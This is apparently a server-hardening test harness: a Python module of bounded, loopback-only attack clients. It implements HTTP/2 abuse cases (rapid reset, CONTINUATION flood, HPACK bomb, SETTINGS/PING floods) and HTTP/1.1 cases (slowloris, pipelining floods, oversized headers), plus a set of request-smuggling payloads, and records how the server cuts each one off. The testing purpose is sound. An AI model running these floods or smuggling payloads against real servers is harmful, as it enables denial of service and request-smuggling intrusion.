"""Attack clients, one function per case: bounded in count and in time, loopback only.

Each takes (port, quick) and returns a Cutoff: how the server cut the attacker off and
how much it accepted until then. Payloads are built before the clock starts so the
Python client spends its time in sendall(), not in encoding.
"""

from __future__ import annotations

import socket
import struct
import threading
import time
from dataclasses import dataclass, field

from hpack import Decoder, Encoder

from harness.abuse.wire import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS,
                                INITIAL_WINDOW_SIZE, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                                error_name, raw_frame, request_headers, settings_payload)

HOST = "127.0.0.1"


@dataclass
class Cutoff:
    goaway: int | None = None
    resets: dict = field(default_factory=dict)    # error code -> count
    statuses: dict = field(default_factory=dict)  # HTTP status -> count
    closed: bool = False
    sent_units: int = 0       # frames, requests or sockets the attacker got in
    unit: str = "frames"
    sent_bytes: int = 0
    seconds: float = 0.0
    violations: list = field(default_factory=list)  # functional failures (e.g. a smuggled request answered)
    note: str = ""

    def describe(self) -> str:
        parts = []
        if self.goaway is not None:
            parts.append(f"GOAWAY {error_name(self.goaway)}")
        if self.resets:
            parts.append(" ".join(f"RST {error_name(c)} x{n}" for c, n in sorted(self.resets.items())))
        if self.statuses:
            parts.append(" ".join(f"{s} x{n}" for s, n in sorted(self.statuses.items())))
        if self.closed:
            parts.append("close")
        if self.note:
            parts.append(self.note)
        return ", ".join(parts) or "not cut off"

    def as_dict(self) -> dict:
        return {"goaway": error_name(self.goaway) if self.goaway is not None else None,
                "rst_stream": {error_name(c): n for c, n in self.resets.items()},
                "statuses": {str(s): n for s, n in self.statuses.items()}, "closed": self.closed,
                "accepted": self.sent_units, "unit": self.unit, "accepted_bytes": self.sent_bytes,
                "seconds": round(self.seconds, 3), "violations": self.violations, "summary": self.describe()}


def _connect(port: int, timeout: float = 2.0, rcvbuf: int | None = None) -> socket.socket:
    """rcvbuf: a small receive buffer for a client that never reads, so the server feels it at once."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(timeout)
    s.connect((HOST, port))
    return s


class H2Attacker:
    """One h2c connection; a reader thread (unless read=False) parses what the server sends."""

    def __init__(self, port: int, read: bool = True, settings: dict[int, int] | None = None,
                 send_timeout: float = 2.0):
        self.sock = _connect(port, send_timeout, rcvbuf=None if read else 4096)
        self.cut = Cutoff()
        self.buf = b""
        self.decoder = Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.lock = threading.Lock()
        self.done = threading.Event()
        self.t0 = time.monotonic()
        self.send(PREFACE + raw_frame(SETTINGS, 0, 0, settings_payload(settings or {})) + raw_frame(SETTINGS, 1, 0), 0)
        self.reader = None
        if read:
            self.reader = threading.Thread(target=self._read_loop, daemon=True)
            self.reader.start()

    @property
    def stopped(self) -> bool:
        return self.cut.goaway is not None or self.cut.closed

    def send(self, data: bytes, units: int) -> bool:
        """False once the server closed, sent GOAWAY, or stopped taking bytes for the socket timeout."""
        if self.stopped:
            return False
        try:
            self.sock.sendall(data)
        except socket.timeout:
            self.cut.note = "server stopped reading"
            return False
        except OSError:
            self.cut.closed = True
            return False
        self.cut.sent_units += units
        self.cut.sent_bytes += len(data)
        return True

    def _feed(self, chunk: bytes) -> None:
        self.buf += chunk
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            ftype = self.buf[3]
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            if ftype == GOAWAY and length >= 8:
                self.cut.goaway = struct.unpack(">I", payload[4:8])[0]
            elif ftype == RST_STREAM and length == 4:
                code = struct.unpack(">I", payload)[0]
                self.cut.resets[code] = self.cut.resets.get(code, 0) + 1
            elif ftype == HEADERS:
                try:
                    for name, value in self.decoder.decode(payload):
                        if name in (":status", b":status"):
                            st = int(value)
                            self.cut.statuses[st] = self.cut.statuses.get(st, 0) + 1
                except Exception:
                    pass

    def _read_loop(self) -> None:
        while not self.done.is_set():
            try:
                chunk = self.sock.recv(1 << 20)
            except socket.timeout:
                continue
            except OSError:
                chunk = b""
            if self.done.is_set():
                return  # we closed the socket ourselves
            if not chunk:
                self.cut.closed = True
                return
            self._feed(chunk)

    def finish(self, linger: float = 1.0) -> Cutoff:
        """Waits up to linger for the server's verdict (reading what it sent if we never read), then closes."""
        deadline = time.monotonic() + linger
        if self.reader is None:
            # A send that failed because the server closed may leave its last frames (a GOAWAY) unread.
            self.sock.settimeout(0.2)
            while time.monotonic() < deadline:
                try:
                    chunk = self.sock.recv(1 << 20)
                except socket.timeout:
                    if self.cut.goaway is not None:
                        break
                    continue
                except OSError:
                    chunk = b""
                if not chunk:
                    self.cut.closed = True
                    break
                self._feed(chunk)
        else:
            while time.monotonic() < deadline and not self.cut.closed:
                time.sleep(0.05)
            self.done.set()
        self.done.set()
        self.cut.seconds = time.monotonic() - self.t0
        try:
            self.sock.close()
        except OSError:
            pass
        if self.reader is not None:
            self.reader.join(timeout=3)
        return self.cut


def _get(path: str) -> list[tuple[str, str]]:
    return request_headers(path)  # GET, http, 127.0.0.1


def _loop(attacker: H2Attacker, batches, seconds: float, linger: float = 1.0) -> Cutoff:
    deadline = time.monotonic() + seconds
    for data, units in batches:
        if time.monotonic() > deadline or not attacker.send(data, units):
            break
    return attacker.finish(linger)


# -- h2 cases --------------------------------------------------------------------------------

def rapid_reset(port: int, quick: bool) -> Cutoff:
    pairs, seconds = (10_000, 8.0) if quick else (100_000, 60.0)
    enc = Encoder()
    first = enc.encode(_get("/bytes/1024"))
    again = enc.encode(_get("/bytes/1024"))  # identical after the first: all indexed

    def batches():
        batch, sid = 250, 1
        for start in range(0, pairs, batch):
            out = []
            for _ in range(min(batch, pairs - start)):
                out.append(raw_frame(HEADERS, END_HEADERS | END_STREAM, sid, first if sid == 1 else again))
                out.append(raw_frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
                sid += 2
            yield b"".join(out), len(out)  # frames
    cut = _loop(H2Attacker(port), list(batches()), seconds)
    cut.unit = "frames"
    return cut


def continuation_flood(port: int, quick: bool) -> Cutoff:
    frames, seconds = (10_000, 5.0) if quick else (100_000, 30.0)
    enc = Encoder()
    head = enc.encode(_get("/healthz"))
    # each CONTINUATION: one new literal field (never indexed), ~1 KiB
    conts = [enc.encode([(f"x-c{i % 1000}", "v" * 1000)], huffman=False) for i in range(8)]

    def batches():
        yield raw_frame(HEADERS, END_STREAM, 1, head), 1
        for start in range(0, frames, 100):
            yield b"".join(raw_frame(CONTINUATION, 0, 1, conts[(start + i) % 8]) for i in range(100)), 100
    return _loop(H2Attacker(port), batches(), seconds)


def hpack_bomb(port: int, quick: bool) -> Cutoff:
    streams, refs, seconds = (20, 10_000, 5.0) if quick else (200, 10_000, 30.0)
    # Static-table-only pseudo-headers (literals without indexing), so the dynamic table holds only
    # the bomb: one ~4 KiB entry (6 + 4000 + 32 <= 4096) inserted, then referenced (index 62) refs times.
    base = b"\x82\x86" + b"\x04\x08/healthz" + b"\x01\x09127.0.0.1"
    value = b"b" * 4000
    literal = b"\x40\x06x-bomb" + b"\x7f" + _int7(len(value) - 127) + value
    bomb_first = base + literal + b"\xbe" * refs
    bomb_next = base + b"\xbe" * refs

    def frames_for(block, sid):
        out = []
        chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        for i, c in enumerate(chunks):
            last = i == len(chunks) - 1
            if i == 0:
                out.append(raw_frame(HEADERS, END_STREAM | (END_HEADERS if last else 0), sid, c))
            else:
                out.append(raw_frame(CONTINUATION, END_HEADERS if last else 0, sid, c))
        return b"".join(out), len(out)

    batches = [frames_for(bomb_first, 1)] + [frames_for(bomb_next, 1 + 2 * i) for i in range(1, streams)]
    return _loop(H2Attacker(port), batches, seconds)


def _int7(n: int) -> bytes:
    out = b""
    while n >= 128:
        out += bytes([(n % 128) + 128])
        n //= 128
    return out + bytes([n])


# The floods send until the server cuts them off, up to 1M frames: 100k ACKs (1.7 MB) fit in
# loopback's socket buffers, so at the 100k the server never has to hold one, and a
# server that stops reading without closing would pass unnoticed. About 350k fill the buffers.
def settings_flood(port: int, quick: bool) -> Cutoff:
    count, seconds = (1_000_000, 5.0) if quick else (1_000_000, 30.0)
    frame = raw_frame(SETTINGS, 0, 0, settings_payload({INITIAL_WINDOW_SIZE: 65535}))
    batches = [(frame * 1000, 1000)] * (count // 1000)
    return _loop(H2Attacker(port, read=False), batches, seconds, linger=2.0)


def ping_flood(port: int, quick: bool) -> Cutoff:
    count, seconds = (1_000_000, 5.0) if quick else (1_000_000, 30.0)
    frame = raw_frame(PING, 0, 0, b"12345678")
    batches = [(frame * 1000, 1000)] * (count // 1000)
    return _loop(H2Attacker(port, read=False), batches, seconds, linger=2.0)


def zero_window(port: int, quick: bool) -> Cutoff:
    streams, hold = (100, 3.0) if quick else (100, 40.0)
    a = H2Attacker(port, settings={INITIAL_WINDOW_SIZE: 0})
    enc = Encoder()
    blocks = b"".join(raw_frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, enc.encode(_get("/bytes/104857600")))
                      for i in range(streams))
    a.send(blocks, streams)
    deadline = time.monotonic() + hold
    while time.monotonic() < deadline and not a.stopped:
        time.sleep(0.05)
    cut = a.finish(0.2)
    cut.unit = "streams"
    if cut.goaway is None and not cut.closed:
        cut.note = f"held {hold:g} s"
    return cut


def stream_flood(port: int, quick: bool) -> Cutoff:
    streams, seconds = (2_000, 5.0) if quick else (10_000, 30.0)
    enc = Encoder()
    first = enc.encode(request_headers("/upload", "POST"))
    again = enc.encode(request_headers("/upload", "POST"))

    def batches():
        sid = 1
        for start in range(0, streams, 200):
            out = []
            for _ in range(200):
                out.append(raw_frame(HEADERS, END_HEADERS, sid, first if sid == 1 else again))
                sid += 2
            yield b"".join(out), 200
    cut = _loop(H2Attacker(port), batches(), seconds, linger=1.0)
    cut.unit = "streams"
    return cut


def useless_frames(port: int, quick: bool) -> Cutoff:
    count, seconds = (20_000, 5.0) if quick else (100_000, 30.0)
    enc = Encoder()
    opener = raw_frame(HEADERS, END_HEADERS, 1, enc.encode(request_headers("/upload", "POST")))
    mix = (raw_frame(PRIORITY, 0, 3, b"\0\0\0\x01\x10") + raw_frame(DATA, 0, 1, b"")
           + raw_frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
    batches = [(opener, 1)] + [(mix * 300, 900)] * (count // 900)
    return _loop(H2Attacker(port), batches, seconds)


# -- h1 cases --------------------------------------------------------------------------------

def _read_all(s: socket.socket, seconds: float, limit: int = 1 << 20) -> tuple[bytes, bool]:
    got, deadline = b"", time.monotonic() + seconds
    while len(got) < limit and time.monotonic() < deadline:
        s.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            return got, False
        except OSError:
            return got, True
        if not chunk:
            return got, True
        got += chunk
    return got, False


def _statuses(data: bytes) -> list[int]:
    out = []
    for line in data.split(b"\r\n"):
        if line.startswith(b"HTTP/1.") and len(line) >= 12:
            try:
                out.append(int(line[9:12]))
            except ValueError:
                pass
    return out


def slowloris(port: int, quick: bool) -> Cutoff:
    sockets, seconds, every = (100, 11.5, 2.0) if quick else (1000, 15.0, 3.0)
    cut = Cutoff(unit="sockets")
    t0 = time.monotonic()
    conns = []
    try:
        for _ in range(sockets):
            try:
                s = _connect(port, 2.0)
                s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
                conns.append(s)
            except OSError:
                cut.note = "connect refused"
                break
        cut.sent_units = len(conns)
        open_ = {id(s): s for s in conns}
        closed_at = []
        while time.monotonic() - t0 < seconds and open_:
            time.sleep(every)
            for key, s in list(open_.items()):
                try:
                    s.sendall(b"a")
                    cut.sent_bytes += 1
                    s.settimeout(0.0)
                    try:
                        if s.recv(4096) == b"":
                            raise ConnectionResetError
                    except BlockingIOError:
                        pass
                    s.settimeout(2.0)
                except OSError:
                    closed_at.append(time.monotonic() - t0)
                    del open_[key]
        cut.closed = bool(closed_at)
        cut.note = (f"{len(closed_at)}/{len(conns)} closed by server, first after {min(closed_at):.1f} s"
                    if closed_at else f"0/{len(conns)} closed in {seconds:g} s")
    finally:
        for s in conns:
            s.close()
    cut.seconds = time.monotonic() - t0
    return cut


def oversized_h1_headers(port: int, quick: bool) -> Cutoff:
    rounds = 3 if quick else 30
    cut = Cutoff(unit="requests")
    t0 = time.monotonic()
    big_line = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * (1 << 20) + b"\r\n\r\n"
    many = b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-F%d: v\r\n" % i for i in range(10_000)) + b"\r\n"
    for _ in range(rounds):
        for payload in (big_line, many):
            s = _connect(port, 2.0)
            try:
                sent = 0
                try:
                    for i in range(0, len(payload), 65536):
                        s.sendall(payload[i:i + 65536])
                        sent += min(65536, len(payload) - i)
                except OSError:
                    pass
                got, closed = _read_all(s, 2.0)
                cut.sent_units += 1
                cut.sent_bytes += sent
                for st in _statuses(got):
                    cut.statuses[st] = cut.statuses.get(st, 0) + 1
                    if st != 431:
                        cut.violations.append(f"{len(payload)}-byte header section answered {st}")
                cut.closed = cut.closed or closed
                if not closed:
                    cut.violations.append("connection left open after an oversized header section")
            finally:
                s.close()
    cut.seconds = time.monotonic() - t0
    return cut


SMUGGLING = {
    "cl_te": b"POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: 43\r\nTransfer-Encoding: chunked\r\n\r\n"
             b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
    "te_cl": b"POST /upload HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n"
             b"30\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n\r\n0\r\n\r\n",
    "te_not_final_chunked": b"POST /upload HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n"
                            b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
    "te_gzip": b"POST /upload HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\n"
               b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
    "te_obfuscated": b"POST /upload HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n"
                     b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
    "duplicate_cl": b"POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: 36\r\n\r\n"
                    b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
    "bad_chunk_size": b"POST /upload HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
                      b"zz\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
    "chunk_size_overflow": b"POST /upload HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
                           b"10000000000000001\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
    "cl_overflow": b"POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: 18446744073709551617\r\n\r\n"
                   b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
    "cl_negative": b"POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n"
                   b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
}


def smuggling(port: int, quick: bool) -> Cutoff:
    rounds = 1 if quick else 20
    cut = Cutoff(unit="requests")
    t0 = time.monotonic()
    per_variant = {}
    for _ in range(rounds):
        for name, payload in SMUGGLING.items():
            s = _connect(port, 2.0)
            try:
                try:
                    s.sendall(payload)
                except OSError:
                    pass
                got, closed = _read_all(s, 1.5)
            finally:
                s.close()
            sts = _statuses(got)
            per_variant[name] = (sts, closed)
            cut.sent_units += 1
            cut.sent_bytes += len(payload)
            for st in sts:
                cut.statuses[st] = cut.statuses.get(st, 0) + 1
            if sts != [400] or not closed:
                cut.violations.append(f"{name}: answered {sts or 'nothing'}, {'closed' if closed else 'left open'}"
                                      " (want one 400 and close)")
            cut.closed = cut.closed or closed
    cut.seconds = time.monotonic() - t0
    return cut


def pipelining_flood(port: int, quick: bool) -> Cutoff:
    count, seconds, hold = (20_000, 5.0, 2.0) if quick else (100_000, 30.0, 35.0)
    cut = Cutoff(unit="requests")
    t0 = time.monotonic()
    req = b"GET /bytes/1024 HTTP/1.1\r\nHost: x\r\n\r\n"
    batch = req * 500
    s = _connect(port, 2.0, rcvbuf=4096)
    try:
        sent = 0
        while sent < count and time.monotonic() - t0 < seconds:
            try:
                s.sendall(batch)
            except socket.timeout:
                cut.note = "server stopped reading"
                break
            except OSError:
                cut.closed = True
                break
            sent += 500
        cut.sent_units, cut.sent_bytes = sent, sent * len(req)
        # hold the connection without reading (full mode: past the server's 30 s send timeout), then
        # see whether the server closed it: read what it wrote until EOF, reset or a quiet second
        time.sleep(hold)
        got, closed = _read_all(s, 1.0, limit=64 << 20)
        cut.closed = cut.closed or closed
        answered = got.count(b"HTTP/1.1 200")
        cut.statuses = {200: answered} if answered else {}
        if not closed:
            cut.note = f"held {hold:g} s, still open"
    finally:
        s.close()
    cut.seconds = time.monotonic() - t0
    return cut


CASES = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "zero_window": zero_window,
    "stream_flood": stream_flood,
    "useless_frames": useless_frames,
    "slowloris": slowloris,
    "oversized_h1_headers": oversized_h1_headers,
    "smuggling": smuggling,
    "pipelining_flood": pipelining_flood,
}
